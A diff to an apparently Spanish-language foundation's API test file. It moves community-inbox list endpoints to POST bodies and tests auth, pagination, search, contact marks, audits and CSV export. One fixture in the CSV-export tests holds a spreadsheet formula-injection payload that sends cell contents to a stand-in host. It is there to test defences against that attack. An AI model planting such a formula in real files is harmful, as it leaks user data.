@@ -23,7 +23,7 @@ beforeAll(async () => {
 });
 afterAll(async () => api.close());
 
-type Method = 'GET' | 'PUT' | 'DELETE';
+type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
 /** A request as `token` (a member by default; null: no token at all). */
 const call = (method: Method, url: string, token: string | null = member, payload?: unknown) =>
   api.app.inject({
@@ -57,17 +57,25 @@ async function addVolunteers(rows: Array<Record<string, unknown>>): Promise<numb
   return inserted.map((r) => r.id);
 }
 
+/** A page of a list. */
+async function list(kind: string, body: Record<string, unknown> = {}): Promise<InboxListResponse> {
+  const res = await call('POST', `${BASE}/${kind}/lista`, member, body);
+  expect([kind, body, res.statusCode]).toEqual([kind, body, 200]);
+  return res.json() as InboxListResponse;
+}
+
 /** Every page of a list, following nextCursor; the ids in the order served. */
-async function walk(kind: string, query: string, limit: number): Promise<{ ids: string[]; pages: number; total: number | null }> {
+async function walk(
+  kind: string,
+  filter: Record<string, unknown>,
+  limit: number,
+): Promise<{ ids: string[]; pages: number; total: number | null }> {
   const ids: string[] = [];
   let cursor: string | null = null;
   let pages = 0;
   let total: number | null = null;
   do {
-    const url: string = `${BASE}/${kind}?limit=${limit}${query ? `&${query}` : ''}${cursor ? `&cursor=${cursor}` : ''}`;
-    const res = await call('GET', url);
-    expect([url, res.statusCode]).toEqual([url, 200]);
-    const body = res.json() as InboxListResponse;
+    const body: InboxListResponse = await list(kind, { ...filter, limit, ...(cursor ? { cursor } : {}) });
     if (pages === 0) total = body.total;
     else expect(body.total).toBeNull();
     ids.push(...body.items.map((i) => i.id));
@@ -109,7 +117,7 @@ function readCsv(text: string): string[][] {
 }
 
 async function exportCsv(kind: string, query = '') {
-  const res = await call('GET', `${BASE}/${kind}/export${query ? `?${query}` : ''}`);
+  const res = await call('GET', `${BASE}/${kind}/exportar${query ? `?${query}` : ''}`);
   expect(res.statusCode).toBe(200);
   const bytes = res.rawPayload;
   const text = bytes.toString('utf8');
@@ -120,18 +128,17 @@ describe('who gets in', () => {
   const routes: Array<[Method, string]> = [['GET', BASE]];
   for (const kind of Object.keys(communityInboxKinds)) {
     routes.push(
-      ['GET', `${BASE}/${kind}`],
-      ['GET', `${BASE}/${kind}?q=ana`],
-      ['GET', `${BASE}/${kind}/export`],
+      ['POST', `${BASE}/${kind}/lista`],
+      ['GET', `${BASE}/${kind}/exportar`],
       ['GET', `${BASE}/${kind}/1`],
-      ['PUT', `${BASE}/${kind}/1/contact`],
-      ['DELETE', `${BASE}/${kind}/1/contact`],
+      ['PUT', `${BASE}/${kind}/1/contacto`],
+      ['DELETE', `${BASE}/${kind}/1/contacto`],
     );
   }
 
   it.each(routes)('%s %s: 401 without a token, 403 with a visitor’s, and no audit row', async (method, url) => {
     const before = (await readAudit(api.db, { limit: 1000 })).length;
-    const body = method === 'PUT' ? { note: 'x' } : undefined;
+    const body = method === 'PUT' ? { note: 'x' } : method === 'POST' ? { q: 'ana' } : undefined;
     const anonymous = await call(method, url, null, body);
     expect(anonymous.statusCode).toBe(401);
     const stranger = await call(method, url, visitor, body);
@@ -143,7 +150,7 @@ describe('who gets in', () => {
 
   it('answers a member, with an unknown kind refused by the schema', async () => {
     expect((await call('GET', BASE)).statusCode).toBe(200);
-    const res = await call('GET', `${BASE}/pqrsf`);
+    const res = await call('POST', `${BASE}/pqrsf/lista`, member, {});
     expect(res.statusCode).toBe(400);
     expect(res.json()).toMatchObject({ fields: { kind: 'Ese tipo de registro no existe.' } });
   });
@@ -161,7 +168,7 @@ describe('lists', () => {
       { email: 'micro3@example.com', created_at: '2024-05-02T10:00:00.123403Z' },
     ]);
     // Pages of 2 put a page boundary between the rows of the same millisecond.
-    const served = await walk('voluntarios', 'q=example.com', 2);
+    const served = await walk('voluntarios', { q: 'example.com' }, 2);
     const mine = served.ids.filter((id) => ids.includes(Number(id)));
     expect(mine).toHaveLength(ids.length);
     expect(new Set(served.ids).size).toBe(served.ids.length);
@@ -181,8 +188,8 @@ describe('lists', () => {
   });
 
   it('refuses a cursor it did not write', async () => {
-    for (const cursor of ['abc', Buffer.from('["2024-01-01", 1]').toString('base64url'), 'a%20b']) {
-      const res = await call('GET', `${BASE}/voluntarios?cursor=${cursor}`);
+    for (const cursor of ['abc', Buffer.from('["2024-01-01", 1]').toString('base64url'), 'a b']) {
+      const res = await call('POST', `${BASE}/voluntarios/lista`, member, { cursor });
       expect(res.statusCode).toBe(400);
       expect(res.json()).toMatchObject({ fields: { cursor: expect.any(String) } });
     }
@@ -198,19 +205,14 @@ describe('lists', () => {
         institution: 'Colegio Ñandú',
       },
     ]);
-    const found = async (q: string) => {
-      const res = await call('GET', `${BASE}/voluntarios?q=${encodeURIComponent(q)}`);
-      expect(res.statusCode).toBe(200);
-      return (res.json() as InboxListResponse).items.map((i) => Number(i.id));
-    };
+    const found = async (q: string) => (await list('voluntarios', { q })).items.map((i) => Number(i.id));
     for (const q of ['nunez', 'NÚÑEZ maría', 'guiza', 'mjnunez@correo', '1098765', '1.098.765', '098.76', 'ñandu'])
       expect([q, await found(q)]).toEqual([q, [nunez]]);
     expect(await found('nunez pérez')).toEqual([]);
     // LIKE's wildcards typed in the box match only themselves.
     expect(await found('%')).toEqual([]);
     expect(await found('_')).toEqual([]);
-    const res = await call('GET', `${BASE}/voluntarios?q=nunez`);
-    expect((res.json() as InboxListResponse).items[0]).toMatchObject({
+    expect((await list('voluntarios', { q: 'nunez' })).items[0]).toMatchObject({
       name: 'María José Núñez Güiza',
       email: 'mjnunez@correo.co',
       extra: 'Cédula de ciudadanía 1.098.765',
@@ -233,7 +235,7 @@ describe('lists', () => {
         reviews: null,
       })
       .execute();
-    const allies = (await call('GET', `${BASE}/aliados?q=tejidos%20andinos`)).json() as InboxListResponse;
+    const allies = await list('aliados', { q: 'tejidos andinos' });
     expect(allies.items.map((i) => [i.name, i.extra])).toEqual([['Carlos Gómez', 'Tejidos Andinos S.A.S.']]);
 
     await api.db
@@ -256,15 +258,17 @@ describe('lists', () => {
         },
       ])
       .execute();
-    const both = (await call('GET', `${BASE}/talleres?q=ruiz`)).json() as InboxListResponse;
+    const both = await list('talleres', { q: 'ruiz' });
     expect(both.items.map((i) => [i.name, i.extra])).toEqual([
       ['Sofía Ruiz', 'Vale Ser'],
       ['Marta Ruiz', 'Arte de Amarte'],
     ]);
-    const vale = (await call('GET', `${BASE}/talleres?q=ruiz&taller=vale-ser`)).json() as InboxListResponse;
+    const vale = await list('talleres', { q: 'ruiz', taller: 'vale-ser' });
     expect(vale.items.map((i) => i.name)).toEqual(['Sofía Ruiz']);
     expect(vale.total).toBe(1);
-    expect((await call('GET', `${BASE}/voluntarios?taller=vale-ser`)).statusCode).toBe(400);
+    const misplaced = await call('POST', `${BASE}/voluntarios/lista`, member, { taller: 'vale-ser' });
+    expect(misplaced.statusCode).toBe(400);
+    expect(misplaced.json()).toMatchObject({ fields: { taller: 'El filtro por taller solo aplica a las consultas de talleres.' } });
   });
 
   it('keep the search column and the typed search in step: every accented letter the column drops, the search drops', async () => {
@@ -311,16 +315,16 @@ describe('a record and its contact mark', () => {
     const [id] = await addVolunteers([{ volunteer_name: 'Tomás', email: 'tomas@example.com' }]);
     const note = 'Llamé a Tomás al 300 123; vendrá el sábado.';
     const before = Date.now();
-    const marked = await call('PUT', `${BASE}/voluntarios/${id}/contact`, member, { note });
+    const marked = await call('PUT', `${BASE}/voluntarios/${id}/contacto`, member, { note });
     expect(marked.statusCode).toBe(200);
     const mark = (marked.json() as InboxRecordResponse).contacted;
     expect(mark).toMatchObject({ by: 'ana@fundacion.org', note });
     expect(Date.parse(mark!.at)).toBeGreaterThanOrEqual(before - 1000);
 
-    const contacted = (await call('GET', `${BASE}/voluntarios?estado=contactados`)).json() as InboxListResponse;
+    const contacted = await list('voluntarios', { estado: 'contactados' });
     expect(contacted.items.map((i) => Number(i.id))).toEqual([id]);
     expect(contacted.items[0]!.contacted).toMatchObject({ by: 'ana@fundacion.org' });
-    const pending = (await call('GET', `${BASE}/voluntarios?estado=pendientes&q=tomas`)).json() as InboxListResponse;
+    const pending = await list('voluntarios', { estado: 'pendientes', q: 'tomas' });
     expect(pending.items).toEqual([]);
 
     const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
@@ -332,26 +336,26 @@ describe('a record and its contact mark', () => {
     expect(JSON.stringify(audit)).not.toContain('Tomás');
 
     // Again: the mark's note is replaced, and the audit says so.
-    const again = await call('PUT', `${BASE}/voluntarios/${id}/contact`, member, { note: '' });
+    const again = await call('PUT', `${BASE}/voluntarios/${id}/contacto`, member, { note: '' });
     expect((again.json() as InboxRecordResponse).contacted).toMatchObject({ note: '' });
     expect((await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) }))[0]!.detail).toMatchObject({
       reemplaza: true,
     });
 
-    const undone = await call('DELETE', `${BASE}/voluntarios/${id}/contact`);
+    const undone = await call('DELETE', `${BASE}/voluntarios/${id}/contacto`);
     expect(undone.statusCode).toBe(200);
     expect((undone.json() as InboxRecordResponse).contacted).toBeNull();
     const trail = await readAudit(api.db, { limit: 10, entity: 'volunteers', entityId: String(id) });
     expect(trail.map((a) => a.action)).toEqual(['community.inbox.contact.undo', 'community.inbox.contact', 'community.inbox.contact']);
     // Undoing twice changes nothing and records nothing.
-    await call('DELETE', `${BASE}/voluntarios/${id}/contact`);
+    await call('DELETE', `${BASE}/voluntarios/${id}/contacto`);
     expect(await readAudit(api.db, { limit: 10, entity: 'volunteers', entityId: String(id) })).toHaveLength(3);
   });
 
   it('refuses a mark for a record that does not exist, or a note too long, and records nothing', async () => {
     const before = (await readAudit(api.db, { limit: 1000 })).length;
-    expect((await call('PUT', `${BASE}/software/424242/contact`, member, { note: 'x' })).statusCode).toBe(404);
-    const long = await call('PUT', `${BASE}/voluntarios/1/contact`, member, { note: 'x'.repeat(2001) });
+    expect((await call('PUT', `${BASE}/software/424242/contacto`, member, { note: 'x' })).statusCode).toBe(404);
+    const long = await call('PUT', `${BASE}/voluntarios/1/contacto`, member, { note: 'x'.repeat(2001) });
     expect(long.statusCode).toBe(400);
     expect(long.json()).toMatchObject({ fields: { note: 'Escribe como máximo 2000 caracteres en la nota.' } });
     expect((await readAudit(api.db, { limit: 1000 })).length).toBe(before);
@@ -371,7 +375,7 @@ describe('CSV export', () => {
       },
       { volunteer_name: '=HYPERLINK("http://mal.example/?x="&A1,"Ver")', volunteer_lastname: '@SUMA(1;2)', email: 'formula@example.com' },
     ]);
-    const { res, bytes, records } = await exportCsv('voluntarios', 'q=example.com');
+    const { res, bytes, records } = await exportCsv('voluntarios');
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toMatch(/^attachment; filename="comunidad-voluntarios-\d{4}-\d{2}-\d{2}\.csv"/);
     expect(res.headers['cache-control']).toBe('no-store');
@@ -437,11 +441,11 @@ describe('CSV export', () => {
       })
       .returning('id')
       .execute();
-    await call('PUT', `${BASE}/talleres/${row!.id}/contact`, member, { note: 'Le escribí' });
-    const { records } = await exportCsv('talleres', 'q=oscar%40example');
-    expect(records).toHaveLength(2);
-    const [header, line] = records;
-    const cell = (name: string) => line![header!.indexOf(name)];
+    await call('PUT', `${BASE}/talleres/${row!.id}/contacto`, member, { note: 'Le escribí' });
+    const { records } = await exportCsv('talleres', 'estado=contactados&taller=vale-ser');
+    const [header, ...lines] = records;
+    expect(lines.map((l) => Number(l[0]))).toEqual([row!.id]);
+    const cell = (name: string) => lines[0]![header!.indexOf(name)];
     expect(cell('Taller')).toBe('Vale Ser');
     expect(cell('Contactado')).toBe('Sí');
     expect(cell('Fecha de contacto')).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
@@ -449,17 +453,19 @@ describe('CSV export', () => {
     expect(cell('Nota de contacto')).toBe('Le escribí');
   });
 
-  it('writes an audit row with kind, filter and row count, and none of the search words or the rows’ data', async () => {
-    await exportCsv('voluntarios', 'q=Begoña&estado=pendientes');
+  it('writes an audit row with kind, filter and the file’s row count, and none of the rows’ data', async () => {
+    const { records } = await exportCsv('voluntarios', 'estado=pendientes');
+    const pending = (await list('voluntarios', { estado: 'pendientes' })).total;
+    expect(records.length - 1).toBe(pending);
     const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
     expect(audit).toMatchObject({
       actorEmail: 'ana@fundacion.org',
       action: 'community.export',
       entity: 'volunteers',
       entityId: null,
-      detail: { kind: 'voluntarios', filtro: { busqueda: true, estado: 'pendientes' }, filas: 1 },
+      detail: { kind: 'voluntarios', filtro: { estado: 'pendientes' }, filas: pending },
     });
-    expect(JSON.stringify(audit).toLowerCase()).not.toMatch(/bego/);
+    expect(JSON.stringify(audit).toLowerCase()).not.toMatch(/bego|example\.com/);
   });
 
   it('pages through a large table: 2,500 rows, many on the same instant, each exported once and counted in the audit', async () => {
@@ -469,8 +475,9 @@ describe('CSV export', () => {
       (_, i) => `('bulk${i}@masivo.co', ${i % 3 === 0 ? `'${at}'` : `'2023-01-01T12:00:00Z'::timestamptz - interval '${i} seconds'`})`,
     );
     await sql.raw(`insert into community.newsletter_subscriptions (email, created_at) values ${values.join(',')}`).execute(api.db);
-    const { records } = await exportCsv('boletin', 'q=masivo.co');
-    const [header, ...rows] = records;
+    const { records } = await exportCsv('boletin');
+    const [header, ...all] = records;
+    const rows = all.filter((r) => r[2]!.endsWith('@masivo.co'));
     expect(header).toEqual([
       'Número',
       'Fecha de registro',
@@ -483,11 +490,11 @@ describe('CSV export', () => {
     expect(rows).toHaveLength(2500);
     expect(new Set(rows.map((r) => r[2])).size).toBe(2500);
     const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
-    expect(audit!.detail).toMatchObject({ kind: 'boletin', filas: 2500 });
+    expect(audit!.detail).toMatchObject({ kind: 'boletin', filas: all.length });
   });
 
   it('exports only a header when nothing matches, and audits the zero', async () => {
-    const { records } = await exportCsv('aliados', 'q=nadie-se-llama-asi');
+    const { records } = await exportCsv('aliados', 'estado=contactados');
     expect(records).toHaveLength(1);
     const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
     expect(audit!.detail).toMatchObject({ kind: 'aliados', filas: 0 });
